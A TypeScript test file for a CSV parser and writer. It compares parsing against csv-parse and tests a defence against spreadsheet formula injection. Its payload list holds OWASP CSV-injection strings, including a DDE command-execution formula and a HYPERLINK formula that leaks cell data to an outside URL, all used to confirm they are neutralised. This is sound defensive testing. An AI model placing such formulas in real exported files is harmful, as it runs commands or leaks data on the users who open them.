import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvField, CsvError, CsvReader, neutraliseCsvCell, parseCsv, restoreCsvCell, toCsv } from './csv.js';

/** csv-parse, the library Lintas read CSV with before, as the reference. */
const reference = (text: string, delimiter: string): string[][] => parse(text, { delimiter, relax_column_count: true, skip_empty_lines: false }) as string[][];

/** The reader fed in pieces cut at the given points. */
function inPieces(text: string, delimiter: string, cuts: number[]): string[][] {
  const reader = new CsvReader(delimiter);
  const records: string[][] = [];
  let from = 0;
  for (const cut of [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b)) {
    records.push(...reader.push(text.slice(from, cut)));
    from = cut;
  }
  records.push(...reader.push(text.slice(from)), ...reader.end());
  return records;
}

const delimiters = fc.constantFrom(',', ';', '\t', '|');
// Cells from the characters that matter: delimiters, quotes, line breaks, spaces, and any text.
const cell = fc.array(fc.oneof(fc.constantFrom(',', ';', '\t', '|', '"', '\n', '\r\n', ' ', 'a', 'Z', '0'), fc.string({ unit: 'grapheme', maxLength: 3 })), { maxLength: 6 }).map((parts) => parts.join(''));

/** A field as a spreadsheet writes it: quoted when it must be, and sometimes when it need not. */
function field(value: string, delimiter: string, quoteAnyway: boolean): string {
  const must = value.includes(delimiter) || /["\r\n]/.test(value) || value === '';
  return must || quoteAnyway ? `"${value.replace(/"/g, '""')}"` : value;
}

describe('CsvReader', () => {
  test('reads every well-formed file as csv-parse does, whole or in any pieces', () => {
    fc.assert(
      fc.property(
        delimiters,
        fc.array(fc.array(fc.tuple(cell, fc.boolean()), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }),
        fc.constantFrom('\n', '\r\n'),
        fc.boolean(),
        fc.array(fc.nat(), { maxLength: 6 }),
        (delimiter, rows, newline, trailing, cuts) => {
          const text = rows.map((cells) => cells.map(([value, quote]) => field(value, delimiter, quote)).join(delimiter)).join(newline) + (trailing ? newline : '');
          const expected = reference(text, delimiter);
          expect(parseCsv(text, delimiter)).toEqual(expected);
          expect(inPieces(text, delimiter, cuts)).toEqual(expected);
          expect(inPieces(text, delimiter, Array.from({ length: text.length }, (_, i) => i))).toEqual(expected);
        },
      ),
      { numRuns: 400 },
    );
  });

  test('refuses what csv-parse refuses, and reads what it reads the same, on arbitrary text', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom('a', ',', '"', '\n', ' '), { maxLength: 24 }), fc.array(fc.nat(), { maxLength: 4 }), (chars, cuts) => {
        const text = chars.join('');
        let expected: string[][] | 'error';
        try {
          expected = reference(text, ',');
        } catch {
          expected = 'error';
        }
        const whole = (() => {
          try {
            return parseCsv(text, ',');
          } catch (error) {
            expect(error).toBeInstanceOf(CsvError);
            return 'error' as const;
          }
        })();
        expect(whole).toEqual(expected);
        if (expected !== 'error') {
          expect(inPieces(text, ',', cuts)).toEqual(expected);
          expect(inPieces(text, ',', Array.from({ length: text.length }, (_, i) => i))).toEqual(expected);
        }
      }),
      { numRuns: 2000 },
    );
  });

  test('names the line of a problem as a text editor numbers it', () => {
    const at = (text: string): number => {
      try {
        parseCsv(text, ',');
      } catch (error) {
        return (error as CsvError).line;
      }
      return 0;
    };
    expect(at('id,name\n1,"two\nlines"\n2,o"pen\n')).toBe(4);
    expect(at('id,name\r\n1,"x"y\r\n')).toBe(2);
    expect(at('id,name\n1,x\n2,"never closed\n3,z\n')).toBe(3);
  });

  test('CR alone ends a record too, and an empty line is a record of one empty cell', () => {
    expect(parseCsv('a,b\rc,d\r\n\ne,f', ',')).toEqual([['a', 'b'], ['c', 'd'], [''], ['e', 'f']]);
  });

  test('a record longer than the limit is refused while it is read, however it arrives', () => {
    const reader = new CsvReader(',', 100);
    expect(reader.push('id,name\n')).toEqual([['id', 'name']]);
    expect(() => {
      for (let i = 0; i < 10; i++) reader.push(`1,"${'x'.repeat(30)}`);
    }).toThrow(CsvError);
  });
});

/**
 * OWASP's CSV-injection payloads (and their relatives): each would run as a formula in a
 * spreadsheet opened on the download. Written, each must begin with an apostrophe (shown as text),
 * and read back through restoreCsvCell it must be the text it was.
 */
const FORMULA_PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  '+SUM(1+1)',
  '-2+3',
  '@SUM(1+1)',
  '=HYPERLINK("http://x/?leak="&A2,"x")',
  '\t=1',
  '\r=1',
  '=1+1;=2',
  `=1+2";=1+2`,
  `=1+2'" ;,=1+2`,
  '-',
  '@',
  '=',
  '－2+3',
  '＝1+1',
  '＋SUM(1+1)',
  '＠SUM(1+1)',
  `'=1+1`,
  `''+SUM(1)`,
];

describe('formulas in CSV cells (OWASP CSV injection)', () => {
  const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

  test.each(FORMULA_PAYLOADS)('%j is written as text, quoted, and read back as it was', (payload) => {
    const written = neutraliseCsvCell(payload);
    expect(written).toBe(`'${payload}`);
    expect(csvField(payload)).toBe(`"'${payload.replace(/"/g, '""')}"`);
    const [record] = parseCsv(toCsv([[payload, 'after']]).toString('utf8').replace(/^\uFEFF/, ''), ',');
    expect(record?.[0]).toMatch(/^'/);
    expect(record?.map(restoreCsvCell)).toEqual([payload, 'after']);
  });

  test('plain numbers, ordinary text and apostrophes before ordinary text are left alone', () => {
    for (const value of ['-5', '+3.25', '-10.73', '1e-5', '-.5', '0', 'Rote Island', "'quoted", "it's", '', 'a=b', ' =1 ']) {
      expect(neutraliseCsvCell(value), value).toBe(value);
      expect(restoreCsvCell(value), value).toBe(value);
    }
  });

  test('for any text, no written cell starts a formula, and reading gives back the text', () => {
    const text = fc.array(fc.oneof(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '＝', '－', '1', '.', 'e', ' ', '"', ','), fc.string({ maxLength: 3 })), { maxLength: 6 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
        for (const value of cells) {
          const written = neutraliseCsvCell(value);
          if (formulaStart.test(written)) expect(written).toMatch(/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/);
          expect(restoreCsvCell(written)).toBe(value);
        }
        const [record] = parseCsv(toCsv([cells]).toString('utf8').replace(/^\uFEFF/, ''), ',');
        expect(record?.map(restoreCsvCell)).toEqual(cells);
      }),
      { numRuns: 500 },
    );
  });
});
